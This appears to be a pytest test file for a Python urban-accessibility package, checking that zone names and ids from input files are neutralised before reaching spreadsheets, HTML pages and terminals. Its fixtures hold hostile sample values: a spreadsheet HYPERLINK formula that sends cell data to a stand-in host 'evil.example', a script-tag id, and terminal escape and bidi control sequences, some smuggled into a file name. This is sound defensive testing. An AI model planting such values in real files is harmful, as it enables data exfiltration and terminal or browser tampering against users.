"""Text from input files reaches people's spreadsheets, browsers and terminals harmlessly."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest

import fifteenmin as fm
from fifteenmin import registry
from fifteenmin._tables import json_for_html, spreadsheet_safe, terminal_safe
from fifteenmin.cli import main

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Trastevere")'
SCRIPT_ID = "<!--<script>"
ESCAPES = "Monti\x1b[2J\x1b]0;pwned\x07\u202e"


# ---------------------------------------------------------------- the helpers


def test_spreadsheet_safe_prefixes_formulas_only():
    frame = pd.DataFrame(
        {
            "text": [FORMULA, "+39 06 1234", "-x", "@SUM(A1)", "\tcmd", "Via Roma", "-12,5", None],
            "n": [1, -2, 3, 4, 5, 6, 7, 8],
            "=bad header": ["a"] * 8,
        }
    )
    safe = spreadsheet_safe(frame)
    assert safe["text"].tolist()[:-1] == [
        "'" + FORMULA,
        "'+39 06 1234",
        "'-x",
        "'@SUM(A1)",
        "'\tcmd",
        "Via Roma",
        "-12,5",  # a number written as text: a spreadsheet reads it as that number
    ]
    assert pd.isna(safe["text"].iloc[-1])
    assert safe["n"].tolist() == frame["n"].tolist() and safe["n"].dtype == frame["n"].dtype
    assert list(safe.columns) == ["text", "n", "'=bad header"]
    assert frame["text"].iloc[0] == FORMULA  # the input is not changed


def test_spreadsheet_safe_categoricals_and_strings():
    frame = pd.DataFrame(
        {"c": pd.Categorical(["=1+1", "ok"]), "s": pd.array(["@x", pd.NA], dtype="string")}
    )
    safe = spreadsheet_safe(frame)
    assert safe["c"].tolist() == ["'=1+1", "ok"]
    assert safe["s"].tolist()[0] == "'@x" and pd.isna(safe["s"].tolist()[1])


def test_json_for_html_round_trips():
    value = {"id": SCRIPT_ID + "</script>&\u2028\u2029>"}
    text = json_for_html(json.dumps(value, ensure_ascii=False))
    assert not set(text) & set("<>&\u2028\u2029")
    assert json.loads(text) == value


def test_terminal_safe():
    assert terminal_safe(ESCAPES) == "Monti[2J]0;pwned"
    assert terminal_safe("a\nb\r\nc\td") == "a b  c d"
    assert terminal_safe("Caffè Letterario – Roma ✓") == "Caffè Letterario – Roma ✓"


def test_registry_problems_print_on_one_harmless_line(tmp_path):
    path = tmp_path / "albo.csv"
    path.write_text('name,"lat\x1b[31m\nX",lon\nA,41.9,12.5\n', encoding="utf-8")
    text = registry.format_problems(registry.validate_registry(path))
    assert "\x1b" not in text and len(text.splitlines()) == len(registry.validate_registry(path))


# ---------------------------------------------------------------- the written files


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[fm.sample.SampleCity, Path]:
    """The sample city whose zones have ids and names meant to do harm."""
    city = fm.sample.write_sample_city(tmp_path_factory.mktemp("hostile"))
    zones = gpd.read_file(city.zones)
    id_col = next(c for c in ("zone_id", "id", "code") if c in zones.columns)
    name_col = next(c for c in ("name", "nome") if c in zones.columns)
    zones[id_col] = zones[id_col].astype(str)
    zones.loc[0, id_col] = SCRIPT_ID
    zones.loc[1, id_col] = "-2+3"
    zones[name_col] = ESCAPES  # every zone, so a suggested site lies in one
    zones.loc[0, name_col] = FORMULA
    path = city.directory / "hostile_zones.geojson"
    zones.to_file(path)
    return city, path


@pytest.fixture(scope="module")
def report(hostile, tmp_path_factory) -> Path:
    city, zones = hostile
    result = fm.analyze(city.network, city.spaces, zones, population_column="population")
    return result.write(tmp_path_factory.mktemp("report") / "out")


def test_zones_csv_holds_no_formula(report):
    with (report / "zones.csv").open(encoding="utf-8", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert "'" + FORMULA in cells and "'-2+3" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or re.match(r"-[^\d]", c)]


def test_map_html_keeps_its_script(report):
    page = (report / "map.html").read_text(encoding="utf-8")
    data = re.search(r'<script type="application/json" id="fm-data">(.*?)</script>', page, re.S)
    assert data is not None
    assert "<" not in data[1] and ">" not in data[1]
    assert SCRIPT_ID in json.dumps(json.loads(data[1]), ensure_ascii=False)
    assert page.count("<script") == page.count("</script>") == 3
    assert page.rstrip().endswith("</html>")


def test_report_html_escapes_names(report):
    page = (report / "report.html").read_text(encoding="utf-8")
    assert SCRIPT_ID not in page and "<script" not in page


def test_suggest_output_is_safe(hostile, tmp_path, capsys):
    city, zones = hostile
    out = tmp_path / "sites"
    args = ["suggest", "--network", str(city.network), "--spaces", str(city.spaces)]
    args += ["--zones", str(zones), "--population-column", "population", "--sites", "2"]
    assert main([*args, "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert "Monti[2J]0;pwned" in printed
    assert "\x1b" not in printed and "\x07" not in printed and "\u202e" not in printed
    with (out / "suggested_sites.csv").open(encoding="utf-8", newline="") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "@")]


def test_cli_error_is_one_line(tmp_path, capsys):
    path = tmp_path / "spaces.csv"
    path.write_text("name,lat,lon\nA,41.9,12.5\n", encoding="utf-8")
    bad = tmp_path / "zones\nnext\x1b[31m.geojson"
    bad.write_text("{not json", encoding="utf-8")
    args = ["analyze", "--network", str(path), "--spaces", str(path), "--zones", str(bad)]
    assert main([*args, "--out", str(tmp_path / "o"), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "\x1b" not in err
